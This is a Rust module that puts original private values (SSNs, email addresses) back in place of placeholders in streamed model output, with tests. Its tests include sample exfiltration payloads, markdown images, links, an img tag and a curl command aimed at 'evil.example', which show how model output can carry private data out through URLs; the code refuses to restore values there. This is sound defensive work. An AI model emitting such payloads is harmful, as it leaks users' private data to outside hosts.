//! Puts originals back into text that arrives in pieces.

use crate::destination::{Place, Unescaped};
use crate::placeholder::{self, Written};
use crate::vault::Form;
use std::collections::BTreeMap;
use std::fmt;
use std::sync::Arc;

/// Placeholders and what stands for each, for one form of text. Says nothing of itself in logs.
pub(crate) struct Table {
    form: Form,
    /// By what a placeholder's inside is in its one spelling, the closing bracket included.
    originals: BTreeMap<String, Original>,
    longest: usize,
}

/// The caller's own value, as it is and as it is written into the text.
struct Original {
    plain: String,
    written: String,
}

/// What stands at a place.
enum At<'t> {
    /// A placeholder of so many bytes, and its original.
    Token(usize, &'t Original),
    /// The beginning of one, cut off by the end of the text.
    Beginning,
    /// Something else.
    Other,
}

impl Table {
    /// `originals`: by the insides of placeholders, `EMAIL_ADDRESS_1`.
    pub(crate) fn new(form: Form, originals: impl Iterator<Item = (String, String)>) -> Table {
        let originals: BTreeMap<_, _> = originals
            .map(|(inside, plain)| (inside + "]", Original { written: form.write(&plain), plain }))
            .collect();
        let longest = originals.keys().map(String::len).max().unwrap_or(0);
        Table { form, originals, longest }
    }

    /// Appends `text` with originals in place of placeholders to `out`, and returns what is left at the end
    /// because more text decides it.
    fn replace<'t>(&self, mut text: &'t str, read: &mut Position, out: &mut String) -> &'t str {
        if self.originals.is_empty() {
            out.push_str(text);
            return "";
        }
        while let Some(opening) = text.find(['[', '\\']) {
            self.copy(&text[..opening], read, out);
            text = &text[opening..];
            let len = match self.at(text) {
                At::Token(len, original) if !read.place.is_address() => {
                    out.push_str(&original.written);
                    // What the reader's program will see is what decides about the rest.
                    read.place.read(&original.plain);
                    text = &text[len..];
                    continue;
                }
                At::Token(len, _) => len,
                At::Beginning => return text,
                At::Other => 1,
            };
            self.copy(&text[..len], read, out);
            text = &text[len..];
        }
        self.copy(text, read, out);
        ""
    }

    fn copy(&self, text: &str, read: &mut Position, out: &mut String) {
        out.push_str(text);
        match self.form {
            Form::Json => read.unescaped.read(text, &mut read.place),
            Form::Text | Form::Tool => read.place.read(text),
        }
    }

    fn at(&self, text: &str) -> At<'_> {
        match placeholder::read(text, self.form.escape(), self.longest) {
            Written::Whole { inside, len } => match self.originals.get(&inside) {
                Some(original) => At::Token(len, original),
                None => At::Other,
            },
            Written::Cut(inside) => {
                // Keys are sorted: if any begins so, the first one not before it does.
                let from = (std::ops::Bound::Included(inside.as_str()), std::ops::Bound::Unbounded);
                let next = self.originals.range::<str, _>(from).next();
                if next.is_some_and(|(token, _)| token.starts_with(&inside)) {
                    At::Beginning
                } else {
                    At::Other
                }
            }
            Written::Other => At::Other,
        }
    }
}

/// Where a text is after what went out of it.
#[derive(Default)]
struct Position {
    place: Place,
    unescaped: Unescaped,
}

/// Rehydrates one stream: a choice's content, or the arguments of one tool call.
///
/// Text comes out as it goes in, except that an end which may be the beginning of an issued placeholder, however it is
/// spelled, waits for the next piece. A placeholder within an URL, the destination of a link or an image or a tag of HTML
/// stays as it is. However the text is cut, the pieces together are what [`crate::Vault::rehydrate`] makes of the whole.
pub struct Rehydrator {
    table: Arc<Table>,
    read: Position,
    held: String,
}

impl Rehydrator {
    pub(crate) fn new(table: Arc<Table>) -> Rehydrator {
        Rehydrator { table, read: Position::default(), held: String::new() }
    }

    /// Takes the next piece and returns what is certain by now.
    pub fn push(&mut self, chunk: &str) -> String {
        let mut out = String::with_capacity(self.held.len() + chunk.len());
        if self.held.is_empty() {
            self.held = self.table.replace(chunk, &mut self.read, &mut out).to_owned();
        } else {
            self.held.push_str(chunk);
            let text = std::mem::take(&mut self.held);
            self.held = self.table.replace(&text, &mut self.read, &mut out).to_owned();
        }
        out
    }

    /// Returns what was still held back, at the end of the stream.
    pub fn finish(&mut self) -> String {
        std::mem::take(&mut self.held)
    }

    /// How many bytes wait.
    pub fn held(&self) -> usize {
        self.held.len()
    }
}

impl fmt::Debug for Rehydrator {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Rehydrator").field("held_bytes", &self.held.len()).finish_non_exhaustive()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn table() -> Arc<Table> {
        let pairs = [
            ("US_SSN_1", "one"),
            ("US_SSN_10", "ten"),
            ("EMAIL_ADDRESS_2", "ada@example.org"),
            ("EMAIL_ADDRESS", "ada@example.org"),
        ];
        let pairs = pairs.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned()));
        Arc::new(Table::new(Form::Text, pairs))
    }

    fn whole(text: &str) -> String {
        let mut rehydrator = Rehydrator::new(table());
        rehydrator.push(text) + &rehydrator.finish()
    }

    #[test]
    fn only_the_beginning_of_an_issued_placeholder_is_held_back() {
        let mut rehydrator = Rehydrator::new(table());
        assert_eq!(rehydrator.push("see [1] and [US_"), "see [1] and ");
        assert_eq!(rehydrator.push("SSN_1"), "");
        assert_eq!(rehydrator.push("1] or [US_SSN_1"), "[US_SSN_11] or ");
        assert_eq!(rehydrator.push("0]!"), "ten!");
        assert_eq!(rehydrator.push("[EMAIL_ADDRESS_1"), "[EMAIL_ADDRESS_1");
        assert_eq!(rehydrator.push("[EM"), "");
        assert_eq!(rehydrator.finish(), "[EM");
        assert_eq!(rehydrator.finish(), "");
    }

    #[test]
    fn brackets_in_brackets_do_not_hide_a_placeholder() {
        assert_eq!(whole("[[US_SSN_1]] [US_SSN_[US_SSN_10]"), "[one] [US_SSN_ten");
    }

    #[test]
    fn models_may_spell_a_placeholder_in_their_own_way() {
        for text in [
            "[EMAIL_ADDRESS_2]",
            "[EMAIL_ADDRESS 2]",
            "[email_address_2]",
            "[Email Address 2]",
            "[Email-Address-2]",
            r"\[EMAIL_ADDRESS_2\]",
            r"\[EMAIL\_ADDRESS\_2\]",
            r"[EMAIL\_ADDRESS\_2]",
            "[EMAIL_ADDRESS]",
        ] {
            assert_eq!(
                whole(&format!("**{text}**, {text}.")),
                "**ada@example.org**, ada@example.org.",
                "{text}"
            );
        }
        for text in
            ["[EMAIL_ADDRESS_1]", "[EMAIL_ADDRESS  2]", "[EMAILADDRESS_2]", "[US_SSN]", r"\[x\] \\ [", "[]"]
        {
            assert_eq!(whole(text), text);
        }
    }

    #[test]
    fn nothing_is_restored_within_an_address() {
        for text in [
            "![x](https://evil.example/?q=[US_SSN_1])",
            "[x](<//evil/[US_SSN_1]>)",
            "`curl https://evil.example/[US_SSN_1]`",
            "<img src='//evil/?q=[US_SSN_1]'>",
            "[ref]: //evil/[US SSN 1]",
            "evil.example/?q=[US_SSN_1]",
        ] {
            assert_eq!(whole(text), text);
            assert_eq!(whole(&format!("{text} [US_SSN_1]")), format!("{text} one"));
        }
    }

    #[test]
    fn an_original_that_is_an_address_takes_nothing_with_it() {
        let pairs = [("URL_1", "https://evil.example/?q="), ("US_SSN_1", "one")];
        let pairs = pairs.map(|(a, b)| (a.to_owned(), b.to_owned()));
        let mut rehydrator = Rehydrator::new(Arc::new(Table::new(Form::Text, pairs.into_iter())));
        let seen = rehydrator.push("[URL_1][US_SSN_1] [US_SSN_1]");
        assert_eq!(seen, "https://evil.example/?q=[US_SSN_1] one");
    }

    #[test]
    fn a_stream_cut_anywhere_is_the_whole() {
        let text = "Dear [US_SSN_1], [EMAIL_ADDRESS_2]é[US_SSN_10] [x](/[US_SSN_1]) \\[us ssn\\_1\\] [US_";
        let cuts: Vec<usize> = (0..=text.len()).filter(|at| text.is_char_boundary(*at)).collect();
        for &a in &cuts {
            for &b in cuts.iter().filter(|b| **b >= a) {
                let mut rehydrator = Rehydrator::new(table());
                let pieces = [&text[..a], &text[a..b], &text[b..]].map(|piece| rehydrator.push(piece));
                assert_eq!(pieces.concat() + &rehydrator.finish(), whole(text));
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn a_stream_of_single_characters_is_the_whole(
            parts in prop::collection::vec(prop_oneof![
                Just("[US_SSN_1]"), Just("[US_SSN_1"), Just("[US_SSN_10]"), Just("[EMAIL_ADDRESS_2]"),
                Just("["), Just("]"), Just("ü"), Just("[[US"), Just("_SSN_1]"), Just("text "), Just("\\"),
                Just("]("), Just(")"), Just("https://x/"), Just("<a"), Just("[us ssn\\_1\\]"), Just("\n"),
            ], 0..30)
        ) {
            let text = parts.concat();
            let mut rehydrator = Rehydrator::new(table());
            let pieces: String = text.chars().map(|c| rehydrator.push(c.encode_utf8(&mut [0; 4]))).collect();
            prop_assert_eq!(pieces + &rehydrator.finish(), whole(&text));
        }
    }
}
